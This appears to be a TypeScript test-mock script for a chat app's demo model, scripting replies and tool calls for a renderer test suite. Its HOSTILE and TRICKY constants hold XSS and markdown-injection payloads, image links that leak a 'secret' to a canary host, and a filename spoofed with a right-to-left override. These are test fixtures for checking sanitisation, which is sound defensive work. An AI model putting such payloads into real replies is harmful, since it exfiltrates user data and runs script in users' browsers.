// What the mock's model answers. It understands what Helve's demo model understands, and a few things more that
// only a test would ask for.

export type Beat = { think: string } | { say: string } | { call: string; input: Record<string, unknown> };

/** What the model says when it is asked. */
export function script(message: string): Beat[] {
  const said = message.toLowerCase();
  const code = /`([^`]+)`/.exec(message)?.[1];
  const note = /(?:remember(?: that)?|记住[：:]?)\s*(.+)/i.exec(message)?.[1];
  if (said.includes('long answer')) return [{ say: LONG }];
  if (said.includes('show markdown')) return [{ think: 'Everything in one answer.' }, { say: SHOWCASE }];
  if (said.includes('hostile markdown')) return [{ say: HOSTILE }];
  if (said.includes('break down')) return [{ say: 'I begin, and then ' }, { call: 'break_run', input: {} }];
  if (said.includes('build it')) return [{ call: 'build', input: { target: 'release' } }];
  if (said.includes('cut off'))
    return [{ call: 'send_mail', input: { to: 'mei@example.org', subject: 'Nine o’clock' } }];
  if (said.includes('slowly')) return [{ think: WORDS.slice(0, 200) }, { say: WORDS }];
  if (code !== undefined) {
    const zh = /浏览器/.test(message);
    return [
      {
        think: zh
          ? '这段代码要在用户自己的浏览器里运行，我只能提出来。'
          : 'This should run in the person’s own browser. I can only propose it.',
      },
      {
        say: zh
          ? '代码如下，请先看一眼，确认后点击「运行」。'
          : 'Here is the code. Look at it, and press **Run** if you like what you see.',
      },
      { call: 'browser_js_eval', input: { code } },
    ];
  }
  if (said.includes('two notes')) {
    return [
      { call: 'save_note', input: { text: 'first' } },
      { call: 'save_note', input: { text: 'second' } },
    ];
  }
  if (said.includes('tricky note')) return [{ call: 'save_note', input: { text: TRICKY } }];
  if (note !== undefined) {
    return [
      { think: 'Writing a note changes something, so the person is asked first.' },
      { say: 'I would like to save this. Please allow it or refuse.' },
      { call: 'save_note', input: { text: note } },
    ];
  }
  const calls = [...placesIn(message), ...sumsIn(message)];
  if (calls.length > 1)
    return [
      {
        think: `There are ${calls.length} things to find out, and none depends on another, so I ask for them at once.`,
      },
      ...calls,
    ];
  if (calls.length === 1)
    return [
      { think: 'This is arithmetic. Guessing digits is how models go wrong; the calculator is exact.' },
      ...calls,
    ];
  return [{ say: INTRODUCTION }];
}

/** What the model makes of the results of its calls. */
export function answer(
  results: { tool: string; input: Record<string, unknown>; text: string; isError: boolean }[],
): string {
  const lines = results.map(({ tool, input, text, isError }) => {
    if (isError) return `\`${tool}\` gave no result: ${text}\n\nSo I leave it at that rather than make something up.`;
    if (tool === 'calculator') return `${String(input.expression)} = **${text}**`;
    if (tool === 'time') return `In ${String(input.zone)} it is **${text}**.`;
    if (tool === 'browser_js_eval') return `Your browser ran it and says:\n\n\`\`\`json\n${text}\n\`\`\``;
    return `Done. ${text}`;
  });
  return lines.join('\n\n');
}

/** Runs one of the server's own tools. */
export function execute(tool: string, input: Record<string, unknown>): { title: string; text: string } {
  if (tool === 'time') {
    const zone = String(input.zone);
    const text = new Intl.DateTimeFormat('en-GB', { timeZone: zone, dateStyle: 'full', timeStyle: 'short' }).format(
      new Date(),
    );
    return { title: zone, text };
  }
  if (tool === 'calculator') {
    const expression = String(input.expression);
    const text = SUMS[expression] ?? '0';
    return { title: `${expression} = ${text}`, text };
  }
  return { title: tool, text: `${tool} has done it.` };
}

const SUMS: Record<string, string> = {
  '12.5% of 3,480': '435',
  '3480 × 12.5%': '435',
  '2^64': '18446744073709551616',
};

function sumsIn(message: string): Beat[] {
  return Object.keys(SUMS)
    .filter((expression) => message.includes(expression))
    .map((expression) => ({ call: 'calculator', input: { expression } }));
}

const PLACES: Record<string, string> = {
  tokyo: 'Asia/Tokyo',
  paris: 'Europe/Paris',
  东京: 'Asia/Tokyo',
  巴黎: 'Europe/Paris',
};

function placesIn(message: string): Beat[] {
  return Object.entries(PLACES)
    .filter(([place]) => message.toLowerCase().includes(place))
    .map(([, zone]) => ({ call: 'time', input: { zone } }));
}

const INTRODUCTION =
  'I am Helve’s **demo model**: a few rules inside the program, not a language model. Try one of these:\n\n' +
  '- what is 12.5% of 3,480?\n- what time is it in Tokyo and in Paris, and what is 2^64?\n- remember that the meeting is at nine\n';

const TRICKY = `invoice\u202egpj.exe <img src=x onerror=alert(1)>\u200b${'\n'.repeat(300)}the end`;

const WORDS = Array.from({ length: 400 }, (_, n) => `word${n}`).join(' ');

/** A hundred kilobytes of everything. */
const LONG = Array.from({ length: 110 }, (_, n) =>
  [
    `## Part ${n}`,
    `This is paragraph ${n}. ${'It goes on for a while so that lines wrap and the page has something to do. '.repeat(6)}`,
    `- an item with **strong words** and \`code\`\n- another one with [a link](https://example.org/${n})\n  - and one inside`,
    `\`\`\`rust\nfn part_${n}() -> u32 {\n    // why not\n    ${n} + 1\n}\n\`\`\``,
  ].join('\n\n'),
).join('\n\n');

const HOSTILE = [
  '![leak](https://canary.example/inline.png?d=secret)',
  '![leak][ref]\n\n[ref]: https://canary.example/reference.png',
  '<img src="https://canary.example/html.png" onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"><image href="https://canary.example/svg.png"/></svg>',
  '<style>body{background:url(https://canary.example/css.png)}</style>',
  '<script>window.pwned=1</script> [click](javascript:window.pwned=1)',
  'The end of it.',
].join('\n\n');

const SHOWCASE = `# A heading

Text with **strong**, *emphasised* and ~~deleted~~ words, \`code\`, [a link](https://example.org/docs) and a formula \\(a^2 + b^2 = c^2\\).

## Lists and tables

1. First, with a list inside
   - one
   - two
2. Second

- [x] done
- [ ] not yet

| tool | calls | median |
|:-----|------:|:------:|
| calculator | 1,204 | 3 ms |
| search_web | 87 | 410 ms |

> Quoted words, which may be long enough to need a second line on a narrow screen.

\`\`\`rust
/// Every call gets exactly one outcome.
pub async fn execute(&self, call: ToolCall) -> Result<Outcome, Fault> {
    let entry = self.journal.started(&call).await?; // on record before any effect
    Ok(entry.finished(42, "done").await?)
}
\`\`\`

![a diagram](https://example.org/diagram.png)

中文段落：**重点：**这里有*着重*的文字，也有 \`code\`，以及 mixed English words。`;
